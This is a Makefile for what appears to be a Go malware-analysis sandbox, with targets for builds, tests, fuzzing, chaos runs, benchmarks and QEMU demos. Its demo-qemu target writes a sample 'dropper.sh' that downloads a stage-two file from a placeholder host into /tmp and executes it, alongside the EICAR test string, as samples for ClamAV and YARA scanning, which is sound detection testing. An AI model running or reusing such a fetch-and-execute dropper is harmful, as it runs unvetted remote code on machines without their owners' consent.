# sandbox: see README.md. Everything lands in bin/.
GO        ?= go
BIN       := bin
PLUGINS   := $(notdir $(wildcard plugins/*/cmd/sandbox-plugin-*))
TOOLS     := $(CURDIR)/.tools
# Pinned code generators (make proto); protoc comes from Debian's protobuf-compiler.
PROTOC_GEN_GO_VERSION      := v1.36.12
PROTOC_GEN_GO_GRPC_VERSION := v1.6.2
BENCHTIME ?= 2s
# Each fuzz target runs this long in `make fuzz`, and FUZZTIME_TEST in
# `make test`, where it only has to keep the targets honest.
FUZZTIME      ?= 1m
FUZZTIME_TEST ?= 3s
# How long one test binary of `make test` may run before go test ends it as
# hung. Beside stress-ng (make test-under-load) the libvirt driver's tests,
# real VMs under emulation, took 636 s, 164 s on an idle machine: there the
# bound is doubled.
TEST_TIMEOUT ?= 15m

# The race detector, as every go test here runs it. -race also turns on
# checkptr, which checks each unsafe.Pointer conversion; modernc.org/sqlite
# (the embedded queue's SQLite, its C translated to Go) converts pointers on
# every row, and those checks took 40 % of the CPU of core/api's tests
# (14.1 s of CPU, 8.5 s without). The project's own packages keep checkptr,
# and the race detector still watches SQLite's memory.
RACE := -race -gcflags=modernc.org/...=-d=checkptr=0
# What every go test here adds to the race detector. go test links each
# test binary anew on every run (it caches results, not executables), and
# writing DWARF, which only a debugger reads (panics and race reports use
# the runtime's own tables), is a quarter of each link's CPU: 4.7 s against
# 3.6 s for core/api's.
TESTFLAGS := $(RACE) -ldflags=-w

.PHONY: all build test test-short test-under-load model demo demo-qemu bench proto lint clean qemu-guest fuzz soak

all: build

# Static executables (nothing here needs cgo): they start in about half
# the time, which a host launching plugins, and the tests launching
# thousands of processes, notice.
build:
	@mkdir -p $(BIN)
	CGO_ENABLED=0 $(GO) build -o $(BIN)/sandbox ./cmd/sandbox
	@for p in $(PLUGINS); do \
		echo "CGO_ENABLED=0 $(GO) build -o $(BIN)/$$p ./plugins/*/cmd/$$p"; \
		CGO_ENABLED=0 $(GO) build -o $(BIN)/$$p $$(ls -d ./plugins/*/cmd/$$p) || exit 1; \
	done

# Every test, with the race detector, then the formatting and vet checks,
# and a short run of every fuzz target.
test: build lint example
	@command -v qemu-system-x86_64 >/dev/null || echo "make test: QEMU is not installed: the QEMU driver's tests will be SKIPPED" \
		"(apt-get install --no-install-recommends qemu-system-x86 qemu-utils qemu-guest-agent busybox-static cpio)"
	$(GO) test $(TESTFLAGS) -count=1 -timeout $(TEST_TIMEOUT) ./...
	@$(MAKE) --no-print-directory fuzz FUZZTIME=$(FUZZTIME_TEST)

# The inner loop: every test with the race detector, except those that need
# a real hypervisor (QEMU, libvirt), a database server (PostgreSQL) or a
# browser, and the service's load tests (a gigabyte of uploads, 500 stalled
# clients), which -short skips, saying so; the fake's violation test runs
# only the checks each violation must fail, the model explorations are
# shorter, and the VirtualBox profiles besides the full one leave out what
# TestEveryOperation runs on each. Four test binaries at once, not one per
# core: much of their time is spent waiting on simulated timings (107 to
# 108 s on two cores, in runs that alternated with the previous version's
# 109 to 118 s).
# Not after `make build`: the tests build what they run, and linking bin/
# again after each change would come first, alone.
test-short:
	$(GO) test -short $(TESTFLAGS) -count=1 -p 4 ./...

# `make test` passing RUNS times in a row while stress-ng keeps eight
# CPU-bound workers busy beside it: no test may depend on an idle machine.
RUNS ?= 3
test-under-load: build
	@command -v stress-ng >/dev/null || { echo "make test-under-load: stress-ng is not installed (apt-get install stress-ng)"; exit 1; }
	@stress-ng --cpu 8 --quiet & load=$$!; trap 'kill $$load 2>/dev/null' EXIT; \
	for i in $$(seq $(RUNS)); do \
		echo "make test-under-load: run $$i of $(RUNS), beside stress-ng --cpu 8"; \
		start=$$(date +%s); \
		$(MAKE) --no-print-directory test TEST_TIMEOUT=30m || { echo "make test-under-load: run $$i of $(RUNS) failed"; exit 1; }; \
		echo "make test-under-load: run $$i of $(RUNS) passed in $$(( $$(date +%s) - start )) s"; \
	done

# The conformance model against each of the fake's violation modes: each
# must be caught within the exploration's bound and shrunk to a handful of
# steps. Chance decides whether random sequences meet a violation in time,
# so it is not part of `make test`.
model: build
	SANDBOX_MODEL_MODES=1 $(GO) test $(TESTFLAGS) -count=1 -timeout 30m -run '^TestTheModelCatchesEveryViolationMode$$' -v ./plugins/fake/
	SANDBOX_MODEL_MODES=1 $(GO) test $(TESTFLAGS) -count=1 -timeout 30m -run '^TestTheModelOnQEMU$$' -v ./plugins/qemu/

# The long chaos test of the service (docs/server.md): three services on one
# PostgreSQL, 300 tasks, a host SIGKILLed every 10 to 20 s, PostgreSQL away
# once. Needs a PostgreSQL server (SANDBOX_TEST_POSTGRES, as .ci/services
# sets it).
soak: build
	SANDBOX_SOAK=1 $(GO) test $(TESTFLAGS) -count=1 -timeout 45m -run '^TestChaos$$' -v ./cmd/sandbox/

# Every fuzz target (func FuzzX in a _test.go file) for FUZZTIME, one after
# the other; a failing input lands in the package's testdata/fuzz. A run
# that fails with no failing input kept (the engine's own trouble, seen
# once in CI) shows its output and runs once more.
fuzz:
	@grep -rHo --include='*_test.go' '^func Fuzz[A-Za-z0-9_]*' core plugins sdk cmd | \
	while IFS=: read -r file fn; do \
		target=$${fn#func }; pkg=./$$(dirname "$$file"); \
		echo "$(GO) test -run '^$$' -fuzz '^$$target\$$' -fuzztime $(FUZZTIME) $$pkg"; \
		run() { $(GO) test -run '^$$' -fuzz "^$$target\$$" -fuzztime $(FUZZTIME) -fuzzminimizetime 5s $$pkg 2>&1; }; \
		out=$$(run) || { echo "$$out" | tail -20; $(GO) test -run "^$$target\$$" $$pkg || exit 1; \
			echo "make fuzz: $$target failed with no failing input kept (the fuzzing engine's own trouble); once more"; \
			out=$$(run) || { echo "$$out" | tail -20; exit 1; }; }; \
	done

# The QEMU driver's test guest (docs/qemu.md), built from Debian's packages
# into plugins/qemu/guest/cache; a second run reuses what is up to date.
qemu-guest:
	plugins/qemu/guest/build.sh

# The main job on the built-in fake hypervisor, from a fresh fake world: a
# clean file and the EICAR anti-virus test file through both fake VMs. The
# EICAR file is written here, from two halves, so that no scanner flags this
# repository.
DEMO := $(BIN)/demo
demo: build
	@rm -rf $(BIN)/fake-world $(DEMO)
	@mkdir -p $(DEMO)
	@printf 'an ordinary text file\n' > $(DEMO)/notes.txt
	@printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$$H+H*' > $(DEMO)/eicar.com
	$(BIN)/sandbox vm list
	@echo
	$(BIN)/sandbox run --out $(DEMO)/results $(DEMO)/notes.txt $(DEMO)/eicar.com
	@echo
	$(BIN)/sandbox vm list

# The main job on real VMs with real engines (docs/examples/qemu.toml): two
# QEMU VMs of the test guest scan a clean file, a shell dropper, the EICAR
# file (written here from two halves) and ClamAV's 44 test files, each with
# ClamAV and with YARA, then the analyses an hour this host did. Each VM
# gets its own copy of the guest's disk, renewed when the guest is rebuilt.
QDEMO  := $(BIN)/demo-qemu
QGUEST := plugins/qemu/guest/cache
demo-qemu: build qemu-guest
	@rm -rf $(QDEMO) && mkdir -p $(QDEMO)/samples
	@for vm in qemu-1 qemu-2; do \
		[ $(BIN)/$$vm.qcow2 -nt $(QGUEST)/disk.qcow2 ] || cp $(QGUEST)/disk.qcow2 $(BIN)/$$vm.qcow2 || exit 1; \
	done
	@printf 'an ordinary text file\n' > $(QDEMO)/samples/notes.txt
	@printf '#!/bin/sh\ncd /tmp && wget -q http://example.invalid/stage2 -O .s && chmod +x .s && ./.s\n' > $(QDEMO)/samples/dropper.sh
	@printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$$H+H*' > $(QDEMO)/samples/eicar.com
	@cp $(QGUEST)/testfiles/* $(QDEMO)/samples/
	@n=$$(ls $(QDEMO)/samples | wc -l); begun=$$(date +%s.%N); \
	echo "$(BIN)/sandbox run --config docs/examples/qemu.toml --out $(QDEMO)/results $(QDEMO)/samples/*  ($$n samples)"; \
	$(BIN)/sandbox run --config docs/examples/qemu.toml --out $(QDEMO)/results $(QDEMO)/samples/* || exit 1; \
	awk -v n=$$((n * 2)) -v begun=$$begun -v ended=$$(date +%s.%N) 'BEGIN { s = ended - begun; \
		printf "\n%d analyses (ClamAV and YARA on each sample) on 2 QEMU VMs in %.1f s: %.0f analyses an hour on this host.\n", n, s, n * 3600 / s }'

# Micro-benchmarks run for BENCHTIME; the lifecycle ones take a simulated
# second per cleanup, so they run a fixed number of cleanups instead, the
# libvirt driver's a fixed number of restores and cleanups of real domains,
# and the engine's and the CLI's run whole analyses, once each.
bench: build
	$(GO) test -run '^$$' -bench . -benchtime $(BENCHTIME) -timeout 30m $$($(GO) list ./... | grep -v -e /core/lifecycle -e /core/engine -e /cmd/sandbox -e /plugins/libvirt)
	$(GO) test -run '^$$' -bench . -benchtime 5x ./plugins/libvirt/
	$(GO) test -run '^$$' -bench . -benchtime 7x ./core/lifecycle/
	$(GO) test -run '^$$' -bench . -benchtime 1x ./core/engine/ ./cmd/sandbox/

proto:
	@command -v protoc >/dev/null || { echo "protoc missing: apt-get install protobuf-compiler libprotobuf-dev"; exit 1; }
	GOBIN=$(TOOLS) $(GO) install google.golang.org/protobuf/cmd/protoc-gen-go@$(PROTOC_GEN_GO_VERSION)
	GOBIN=$(TOOLS) $(GO) install google.golang.org/grpc/cmd/protoc-gen-go-grpc@$(PROTOC_GEN_GO_GRPC_VERSION)
	PATH=$(TOOLS):$$PATH protoc -I sdk/internal/pb -I /usr/include \
		--go_out=sdk/internal/pb --go_opt=paths=source_relative \
		--go-grpc_out=sdk/internal/pb --go-grpc_opt=paths=source_relative \
		sdk/internal/pb/hypervisor.proto

# The out-of-tree example driver of docs/plugin-authoring.md, so that the
# tutorial never rots: its own tests (the conformance suite in process), then
# the suite through the CLI against the built plugin. -mod=mod lets its go.sum
# follow this module's dependencies through the replace directive.
.PHONY: example
example: build
	cd docs/example-driver && $(GO) vet -mod=mod ./... && $(GO) test -mod=mod -race -count=1 ./...
	cd docs/example-driver && CGO_ENABLED=0 $(GO) build -mod=mod -o ../../$(BIN)/sandbox-plugin-procvm .
	$(BIN)/sandbox --config docs/example-driver/config.toml conformance --plugin procvm --peer-vm helper \
		--other-snapshot patched --guest-dir . --settle 10s --acpi 2s --explore 15s

lint:
	@out=$$(gofmt -l $$(git ls-files '*.go' 2>/dev/null || find . -name '*.go')); \
		if [ -n "$$out" ]; then echo "gofmt would change:"; echo "$$out"; exit 1; fi
	$(GO) vet ./...

clean:
	rm -rf $(BIN) $(TOOLS)
